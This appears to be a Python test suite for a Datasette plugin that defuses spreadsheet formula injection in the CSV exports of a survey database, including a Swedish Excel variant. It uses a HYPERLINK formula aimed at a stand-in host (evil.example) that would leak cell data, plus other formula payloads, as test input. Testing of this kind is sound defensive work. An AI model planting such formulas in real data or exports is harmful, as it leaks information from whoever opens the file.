"""Formulas neutralised in every CSV Datasette sends (issue 10, part 8), played as the attack.

A respondent types ``=HYPERLINK("http://evil.example/?leak="&A1,...)``;
an evaluator downloads Datasette's own CSV of ``free_text_answers``,
``answers``, a canned query or ad-hoc SQL and opens it in a spreadsheet.
Every cell of every such file must come out neutralised by the project's
one rule (``research.safe_csv.neutralise``), header row included, streamed or not.
"""

import codecs
import csv
import io
from urllib.parse import urlencode

import pytest
from hypothesis import given
from hypothesis import settings
from hypothesis import strategies as st

from datasette_plugins.csv_guard import CsvNeutraliser
from research.safe_csv import DANGEROUS_PREFIXES
from research.safe_csv import PLAIN_NUMBER
from research.safe_csv import neutralise
from tests.fixtures.datasette import actor_cookie

ATTACK = '=HYPERLINK("http://evil.example/?leak="&A1,"Klicka")'
SQL = (
    "select :attack as value_text, '-2+3' as minus, '@SUM(A1)' as at, "
    "char(9) || '=1' as tab, 'rad 1' || char(10) || '=2' as multiline, 4 as plain, "
    "'ok' as \"=HYPERLINK(1)\""
)


def _cells(text):
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _dangerous(text):
    """Cells a spreadsheet would run: a formula start that is not a plain number."""
    return [cell for cell in _cells(text) if cell.startswith(DANGEROUS_PREFIXES) and not PLAIN_NUMBER.fullmatch(cell)]


CSV_PATHS = [
    "/medverkan/free_text_answers.csv",
    "/medverkan/free_text_answers.csv?_dl=1",
    "/medverkan/free_text_answers.csv?_stream=1&_size=1",
    "/medverkan/answers.csv?_stream=1",
    "/medverkan/answers.csv?_labels=on",
    "/medverkan/free_text_answers.json?_format=csv",
    "/medverkan.csv?" + urlencode({"sql": SQL, "attack": ATTACK}),
    "/medverkan.csv?" + urlencode({"sql": SQL, "attack": ATTACK, "_dl": "1"}),
    "/medverkan/answers.csv?" + urlencode({"value_text__startswith": "="}),
]


@pytest.mark.asyncio
@pytest.mark.parametrize("path", CSV_PATHS)
async def test_no_cell_of_datasettes_csv_can_run_as_a_formula(ds, path):
    response = await ds.client.get(path, cookies=actor_cookie(ds, "eva", "evaluator"))
    assert response.status_code == 200, response.text[:300]
    assert _dangerous(response.text) == []


@pytest.mark.asyncio
async def test_the_typed_formula_arrives_as_text_not_lost(ds):
    response = await ds.client.get(
        "/medverkan.csv?" + urlencode({"sql": SQL, "attack": ATTACK}), cookies=actor_cookie(ds, "eva", "evaluator")
    )
    rows = list(csv.reader(io.StringIO(response.text, newline="")))
    assert rows[0][-1] == "'=HYPERLINK(1)"
    assert rows[1] == ["'" + ATTACK, "'-2+3", "'@SUM(A1)", "'\t=1", "rad 1\n=2", "4", "ok"]


@pytest.mark.asyncio
async def test_the_stored_fixture_formula_is_neutralised_in_the_table_csv(ds):
    response = await ds.client.get("/medverkan/free_text_answers.csv", cookies=actor_cookie(ds, "eva", "evaluator"))
    assert "'=HYPERLINK(\"http://x\")" in _cells(response.text)


@pytest.mark.asyncio
async def test_json_and_html_are_left_alone(ds):
    response = await ds.client.get("/medverkan/free_text_answers.json?_shape=array", cookies=actor_cookie(ds, "eva", "evaluator"))
    assert '=HYPERLINK(\\"http://x\\")' in response.text


@pytest.mark.asyncio
async def test_management_canned_query_csv_is_neutralised_too(ds):
    response = await ds.client.get(
        "/medverkan/responses_by_group.csv?process_id=1", cookies=actor_cookie(ds, "chef", "management")
    )
    assert response.status_code == 200
    assert _dangerous(response.text) == []


cell_text = st.one_of(
    st.text(max_size=12),
    st.sampled_from(["=1+1", "+1", "-2", "-0.25", "-2+3", "@A1", "\t=x", "\r=y", '"=q"', "a\r\nb", "å\nä", ""]),
)


@settings(max_examples=300, deadline=None)
@given(
    rows=st.lists(st.lists(cell_text, min_size=1, max_size=5), min_size=1, max_size=8),
    cuts=st.lists(st.integers(min_value=0, max_value=400), max_size=12),
)
def test_streamed_chunks_split_anywhere_give_the_same_neutralised_rows(rows, cuts):
    """Chunk boundaries inside quotes, line breaks or a UTF-8 character change nothing."""
    out = io.StringIO()
    csv.writer(out).writerows(rows)  # as Datasette writes (\r\n, minimal quoting)
    data = out.getvalue().encode("utf-8")
    points = sorted({min(c, len(data)) for c in cuts})
    chunks = [data[a:b] for a, b in zip([0] + points, points + [len(data)])]
    guard = CsvNeutraliser()
    body = b"".join(guard.feed(chunk, final=(i == len(chunks) - 1)) for i, chunk in enumerate(chunks))
    text = codecs.decode(body, "utf-8")
    assert list(csv.reader(io.StringIO(text, newline=""))) == [[neutralise(c) for c in row] for row in rows]


@pytest.mark.asyncio
async def test_negative_numbers_keep_their_sign_while_formulas_are_defused(ds):
    """A negative α or difference is a number, not a formula: no apostrophe in front of it."""
    sql = "select -0.08 as alpha, -2 as diff, '-2+3' as formula, '-1 cmd' as words"
    response = await ds.client.get("/medverkan.csv?" + urlencode({"sql": sql}), cookies=actor_cookie(ds, "eva", "evaluator"))
    rows = list(csv.reader(io.StringIO(response.text, newline="")))
    assert rows[1] == ["-0.08", "-2", "'-2+3", "'-1 cmd"]


@pytest.mark.asyncio
@pytest.mark.parametrize(
    "path",
    ["/medverkan/answers.csv?_size=max", "/medverkan/answers.csv?_stream=1", "/medverkan.csv?sql=select+*+from+answers"],
)
async def test_every_datasette_csv_has_a_swedish_excel_variant(ds, path):
    """``_excel=1``: BOM, semicolons, decimal comma; the same rows; the argument never read as a column filter."""
    cookies = actor_cookie(ds, "eva", "evaluator")
    plain = (await ds.client.get(path, cookies=cookies)).text
    response = await ds.client.get(path + "&_excel=1", cookies=cookies)
    assert response.status_code == 200, response.text[:300]
    assert response.content.startswith(b"\xef\xbb\xbf")
    excel_rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline=""), delimiter=";"))
    plain_rows = list(csv.reader(io.StringIO(plain, newline="")))
    assert len(excel_rows) == len(plain_rows) > 1
    assert excel_rows[0] == plain_rows[0]
    assert [neutralise(c).replace(".", ",") if PLAIN_NUMBER.fullmatch(c) else c for c in plain_rows[1]] == excel_rows[1]
    assert _dangerous(response.content.decode("utf-8-sig").replace(";", ",")) == []


@pytest.mark.asyncio
async def test_excel_variant_writes_a_decimal_comma(ds):
    sql = "select 2.5 as mean, -0.125 as alpha, 3 as n, 'a.b' as text"
    response = await ds.client.get(
        "/medverkan.csv?" + urlencode({"sql": sql, "_excel": "1"}), cookies=actor_cookie(ds, "eva", "evaluator")
    )
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert rows == [["mean", "alpha", "n", "text"], ["2,5", "-0,125", "3", "a.b"]]


@pytest.mark.asyncio
async def test_table_and_query_pages_offer_the_excel_csv(ds):
    cookies = actor_cookie(ds, "eva", "evaluator")
    table = (await ds.client.get("/medverkan/answers", cookies=cookies)).text
    query = (await ds.client.get("/medverkan?sql=select+1+as+one", cookies=cookies)).text
    for html in (table, query):
        assert "_excel=1" in html and "svenska Excel" in html
